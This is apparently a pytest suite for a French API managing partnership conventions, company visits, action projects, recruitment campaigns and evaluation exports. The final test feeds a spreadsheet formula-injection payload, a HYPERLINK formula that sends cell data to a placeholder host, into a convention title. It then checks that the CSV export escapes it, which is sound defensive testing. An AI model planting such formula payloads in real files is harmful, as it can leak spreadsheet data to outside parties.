"""Conventions and company visits through the API on the dev server: bad input, who may see
and sign, a repeated signature, visits and action projects counted in the next snapshot, a
campaign launched from a project, a past phase evaluated at once (JSON, CSV, printable page)
and renewed."""

from __future__ import annotations

import asyncio
from datetime import UTC, datetime, timedelta

import pytest

from domain.auth import Role
from domain.formats import PARIS
from tests.api.conftest import Actor
from tests.factories import make_org, make_user, siret


def today():
    # A phase's days are counted in UTC (the workflow's clock).
    return datetime.now(UTC).date()


def visit_day():
    # A visit is dated on Paris' calendar, which at 23:30 UTC is already tomorrow.
    return datetime.now(PARIS).date()


def convention_body(actors, **over):
    body = {
        "request_id": "cap-dev-4",
        "title": "Cap Développement – phase 4",
        "territory": "Marseille Nord",
        "parties": [
            {
                "organisation_id": str(actors["manager"].organisation_id),
                "role": "operator",
                "signatory_id": str(actors["manager"].user_id),
            },
            {
                "organisation_id": str(actors["partner"].organisation_id),
                "role": "partner",
                "signatory_id": str(actors["partner"].user_id),
            },
        ],
        "phase": {
            "starts_on": today().isoformat(),
            "ends_on": (today() + timedelta(days=730)).isoformat(),
            "annual_budget_cents": 16_500_000,
            "targets": {"companies_met": 190, "action_projects": 40, "campaigns": 5},
            "priorities": ["Recrutement local", "Transmission"],
        },
    }
    return {**body, **over}


def _phase(body, **over):
    return {**body["phase"], **over}


async def _create(client, actors, **over):
    r = await client.post(
        "/api/conventions", json=convention_body(actors, **over), headers=actors["staff"].headers
    )
    assert r.status_code == 201, r.text
    return r.json()


async def _sign(client, conv, actor: Actor):
    return await client.post(
        f"/api/conventions/{conv['id']}/signature", json={}, headers=actor.headers
    )


async def _until(client, conv, actor, pred, what):
    for _ in range(100):
        r = await client.get(f"/api/conventions/{conv['id']}/state", headers=actor.headers)
        if r.status_code == 200 and pred(r.json()):
            return r.json()
        await asyncio.sleep(0.1)
    raise AssertionError(f"never {what}")


async def test_bad_conventions_are_refused_with_a_reason(client, actors, db):
    staff = actors["staff"].headers
    body = convention_body(actors)
    cases = [
        (
            {"phase": _phase(body, ends_on=(today() - timedelta(days=1)).isoformat())},
            "doit suivre son début",
        ),
        ({"phase": _phase(body, annual_budget_cents=-1)}, "phase.annual_budget_cents"),
        ({"phase": _phase(body, targets={"unicorns": 3})}, "phase.targets"),
        ({"parties": []}, "parties"),
        ({"parties": body["parties"] * 2}, "n'est partie qu'une fois"),
    ]
    for over, message in cases:
        r = await client.post(
            "/api/conventions", json=convention_body(actors, **over), headers=staff
        )
        assert r.status_code == 422, (over, r.text)
        assert message in r.json()["detail"], r.json()["detail"]

    ghost = {**body["parties"][1], "organisation_id": "00000000-0000-4000-8000-000000000000"}
    r = await client.post(
        "/api/conventions",
        json=convention_body(actors, parties=[body["parties"][0], ghost]),
        headers=staff,
    )
    assert r.status_code == 422 and "organisation partie inconnue" in r.json()["detail"]
    wrong = {**body["parties"][1], "signatory_id": str(actors["member"].user_id)}
    r = await client.post(
        "/api/conventions",
        json=convention_body(actors, parties=[body["parties"][0], wrong]),
        headers=staff,
    )
    assert r.status_code == 422 and "n'appartient pas" in r.json()["detail"]
    r = await client.post(
        "/api/conventions", json=convention_body(actors), headers=actors["member"].headers
    )
    assert r.status_code == 403
    assert await db.fetchval("SELECT count(*) FROM conventions") == 0
    assert await db.fetchval("SELECT count(*) FROM processes") == 0  # no workflow started


async def test_a_list_of_conventions_reads_each_as_its_own_page_does(client, actors):
    """The list reads a page of conventions at once (five statements): each item is what the
    convention's own page reads, newest first."""
    made = [
        await _create(client, actors, request_id=f"cap-{n}", title=f"Cap {n}", territory=t)
        for n, t in [(1, "Marseille Nord"), (2, "Aubagne"), (3, "La Ciotat")]
    ]
    assert (await _sign(client, made[1], actors["manager"])).status_code == 200
    staff = actors["staff"].headers
    listed = (await client.get("/api/conventions", headers=staff)).json()
    assert [c["id"] for c in listed["items"]] == [c["id"] for c in reversed(made)]
    for item in listed["items"]:
        one = await client.get(f"/api/conventions/{item['id']}", headers=staff)
        assert item == one.json()
    signed = next(c for c in listed["items"] if c["id"] == made[1]["id"])
    assert [s["signatory_id"] for s in signed["phases"][0]["signatures"]] == [
        str(actors["manager"].user_id)
    ]
    assert all(not c["phases"][0]["signatures"] for c in listed["items"] if c is not signed)


async def test_signatures_visits_snapshot_and_campaign_from_a_project(client, actors, db):
    conv = await _create(client, actors)
    again = await _create(client, actors)  # the same request: the same convention
    assert again["id"] == conv["id"] and conv["status"] == "awaiting_signatures"
    assert await db.fetchval("SELECT count(*) FROM conventions") == 1

    partner, manager, member = actors["partner"], actors["manager"], actors["member"]
    listed = await client.get("/api/conventions", headers=partner.headers)
    assert [c["id"] for c in listed.json()["items"]] == [conv["id"]]
    assert (await client.get("/api/conventions", headers=member.headers)).json()["total"] == 0
    r = await client.get(f"/api/conventions/{conv['id']}", headers=member.headers)
    assert r.status_code == 404
    assert (await _sign(client, conv, member)).status_code == 404
    r = await _sign(client, conv, actors["staff"])  # of a party, not its signatory
    assert r.status_code == 403 and "pas signataire" in r.json()["detail"]

    first = await _sign(client, conv, partner)
    repeat = await _sign(client, conv, partner)
    assert first.status_code == repeat.status_code == 200
    assert first.json()["signatures"] == repeat.json()["signatures"]
    signed = "SELECT count(*) FROM audit_events WHERE action = 'convention.signed'"
    assert await db.fetchval(signed) == 1
    r = await _sign(client, conv, manager)
    assert r.status_code == 200 and r.json()["step"] in ("signed", "active")
    await _until(client, conv, manager, lambda s: s["step"] == "active", "active")

    r = await client.post(
        f"/api/conventions/{conv['id']}/decision",
        json={"close_reason": "trop tôt"},
        headers=manager.headers,
    )
    assert r.status_code == 409 and "impossible à l'étape" in r.json()["detail"]
    r = await client.get(f"/api/conventions/{conv['id']}/evaluation", headers=manager.headers)
    assert r.status_code == 404 and "pas encore évaluée" in r.json()["detail"]
    amendment = {"request_id": "av-1", "targets": {"companies_met": 200}, "reason": "Comité"}
    r = await client.post(
        f"/api/conventions/{conv['id']}/amendments", json=amendment, headers=actors["staff"].headers
    )
    assert r.status_code == 403
    r = await client.post(
        f"/api/conventions/{conv['id']}/amendments", json=amendment, headers=manager.headers
    )
    assert r.status_code == 200 and r.json()["phase"]["targets"]["companies_met"] == 200

    # A CMA adviser visits the member company; the same visit sent twice is recorded once.
    visit = {
        "request_id": "visite-1",
        "company_id": str(member.organisation_id),
        "visited_on": visit_day().isoformat(),
        "themes": ["recrutement", "transmission"],
        "needs": "Deux boulangers, un apprenti.",
        "projects": [
            {"kind": "recruitment", "title": "Recruter deux boulangers"},
            {"kind": "investment", "title": "Four neuf", "investment_cents": 3_500_000},
        ],
    }
    r1 = await client.post("/api/visits", json=visit, headers=partner.headers)
    r2 = await client.post("/api/visits", json=visit, headers=partner.headers)
    assert r1.status_code == r2.status_code == 201 and r1.json()["id"] == r2.json()["id"]
    assert await db.fetchval("SELECT count(*) FROM company_visits") == 1
    assert r1.json()["territory"] == "Marseille Nord"
    for bad, message in [
        ({"visited_on": (visit_day() + timedelta(days=1)).isoformat()}, "visited_on"),
        ({"company_id": str(actors["agency"].organisation_id)}, "company_id"),
        ({"company": {"siret": siret(), "name": "Hors réseau", "postcode": "13015"}}, "l'un des"),
        (
            {
                "company_id": None,
                "company": {"siret": siret(), "name": "Hors", "postcode": "13015"},
            },
            "territory",
        ),
        ({"projects": [{"kind": "training", "title": "CACES", "investment_cents": 5}]}, "projects"),
        ({"territory": "Pays d'Aubagne"}, "est du territoire « Marseille Nord »"),
    ]:
        r = await client.post(
            "/api/visits", json={**visit, "request_id": "v-bad", **bad}, headers=partner.headers
        )
        assert r.status_code == 422 and message in r.json()["detail"], (bad, r.text)
    r = await client.post("/api/visits", json=visit, headers=actors["agency"].headers)
    assert r.status_code == 403
    seen = await client.get("/api/visits", headers=member.headers)  # the visited company
    assert seen.json()["total"] == 1
    other = await make_org(db, name="Garage des Aygalades")
    _, token = await make_user(db, other.id, Role.MEMBER)
    r = await client.get(
        f"/api/visits/{r1.json()['id']}", headers=Actor(None, other.id, token).headers
    )
    assert r.status_code == 404

    snap = await client.post(f"/api/conventions/{conv['id']}/snapshots", headers=manager.headers)
    assert snap.status_code == 200, snap.text
    actuals = snap.json()["actuals"]
    assert (actuals["companies_met"], actuals["action_projects"], actuals["campaigns"]) == (1, 2, 0)
    assert actuals["investment_cents"] == 3_500_000

    # The recruitment project launches its campaign and stays linked to it.
    project = r1.json()["projects"][0]
    campaign = {
        "request_id": "camp-boulangers",
        "employer_id": str(member.organisation_id),
        "title": "Boulangers",
        "positions": [
            {"title": "Boulanger", "count": 2, "contract": "cdi", "place_postcode": "13014"}
        ],
        "territory_postcodes": ["13014", "13015"],
        "agency_ids": [str(actors["agency"].organisation_id)],
        "deadline": (datetime.now(UTC) + timedelta(days=30)).isoformat(),
        "decision_sla_days": 5,
    }
    url = f"/api/action-projects/{project['id']}/campaign"
    r = await client.post(url, json=campaign, headers=actors["staff"].headers)
    assert r.status_code == 200, r.text
    assert r.json()["campaign_id"] and r.json()["status"] == "in_progress"
    project_campaign = r.json()["campaign_id"]
    r = await client.post(url, json=campaign, headers=actors["staff"].headers)  # a retry
    assert r.status_code == 200
    other_campaign = {**campaign, "request_id": "camp-2"}  # one campaign per project
    r = await client.post(url, json=other_campaign, headers=actors["staff"].headers)
    assert r.status_code == 200 and r.json()["campaign_id"] == project_campaign
    assert await db.fetchval("SELECT count(*) FROM campaigns") == 1
    investment = r1.json()["projects"][1]["id"]
    r = await client.post(
        f"/api/action-projects/{investment}/campaign",
        json=campaign,
        headers=actors["staff"].headers,
    )
    assert r.status_code == 409

    snap = await client.post(f"/api/conventions/{conv['id']}/snapshots", headers=manager.headers)
    assert snap.json()["actuals"]["campaigns"] == 1
    stored = await client.get(f"/api/conventions/{conv['id']}/snapshots", headers=partner.headers)
    assert len(stored.json()) == 1  # the same day's snapshot, refreshed
    assert stored.json()[0]["actuals"]["campaigns"] == 1


async def test_past_phase_is_evaluated_then_renewed(client, actors, db):
    body = convention_body(actors)
    past = _phase(
        body,
        starts_on=(today() - timedelta(days=365)).isoformat(),
        ends_on=(today() - timedelta(days=1)).isoformat(),
    )
    conv = await _create(client, actors, request_id="retro", phase=past)
    manager = actors["manager"]
    await _sign(client, conv, actors["partner"])
    await _sign(client, conv, manager)
    state = await _until(client, conv, manager, lambda s: s["step"] == "evaluating", "evaluated")
    assert state["evaluation"]["budget_cents"] == 16_500_000

    r = await client.get(f"/api/conventions/{conv['id']}/evaluation", headers=manager.headers)
    assert r.status_code == 200
    lines = {line["key"]: line for line in r.json()["lines"]}
    assert lines["companies_met"]["target"] == 190 and lines["companies_met"]["percent"] == 0.0
    csv_text = (
        await client.get(f"/api/conventions/{conv['id']}/evaluation.csv", headers=manager.headers)
    ).text
    assert "Entreprises rencontrées;190;0;0" in csv_text.splitlines()
    assert "Budget de la phase (euros);165000,00" in csv_text.splitlines()
    page = await client.get(f"/conventions/{conv['id']}/evaluation", headers=manager.headers)
    assert page.status_code == 200
    assert "Objectifs et réalisé" in page.text and "165\u202f000,00 €" in page.text

    renew = {
        "renew": {
            "starts_on": today().isoformat(),
            "ends_on": (today() + timedelta(days=730)).isoformat(),
            "annual_budget_cents": 17_000_000,
            "targets": {"companies_met": 200},
        }
    }
    too_early = {"renew": {**renew["renew"], "starts_on": past["ends_on"]}}
    url = f"/api/conventions/{conv['id']}/decision"
    r = await client.post(url, json=too_early, headers=manager.headers)
    assert r.status_code == 409 and "commence après la fin" in r.json()["detail"]
    r = await client.post(url, json=renew, headers=actors["partner"].headers)
    assert r.status_code == 403
    r = await client.post(url, json=renew, headers=manager.headers)
    assert r.status_code == 200 and r.json()["step"] == "renewed"
    for _ in range(100):
        got = (await client.get(f"/api/conventions/{conv['id']}", headers=manager.headers)).json()
        if got["phase_number"] == 2:
            break
        await asyncio.sleep(0.1)
    assert [(p["number"], p["status"]) for p in got["phases"]] == [
        (1, "renewed"),
        (2, "awaiting_signatures"),
    ]
    assert got["status"] == "awaiting_signatures"


@pytest.mark.parametrize("role", ["member", "agency"])
async def test_conventions_of_others_are_invisible(client, actors, role):
    conv = await _create(client, actors)
    h = actors[role].headers
    assert (await client.get(f"/api/conventions/{conv['id']}", headers=h)).status_code == 404
    r = await client.get(f"/api/conventions/{conv['id']}/evaluation", headers=h)
    assert r.status_code == 404
    r = await client.post(f"/api/conventions/{conv['id']}/snapshots", headers=h)
    assert r.status_code == 403


async def test_a_title_written_as_a_formula_stays_text_in_the_evaluation_csv(client, actors):
    body = convention_body(actors)
    past = _phase(
        body,
        starts_on=(today() - timedelta(days=200)).isoformat(),
        ends_on=(today() - timedelta(days=1)).isoformat(),
    )
    formula = '=HYPERLINK("http://x"&B2,"y")'
    conv = await _create(client, actors, request_id="formula", title=formula, phase=past)
    manager = actors["manager"]
    await _sign(client, conv, actors["partner"])
    await _sign(client, conv, manager)
    await _until(client, conv, manager, lambda s: s["step"] == "evaluating", "evaluated")
    url = f"/api/conventions/{conv['id']}/evaluation.csv"
    for _ in range(100):  # the state says "evaluating" a moment before the row is stored
        r = await client.get(url, headers=manager.headers)
        if r.status_code != 404:
            break
        await asyncio.sleep(0.1)
    assert r.status_code == 200 and r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.content.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the accents
    first = r.content.decode("utf-8-sig").splitlines()[0]
    assert first == 'Convention;"\'=HYPERLINK(""http://x""&B2,""y"")"'
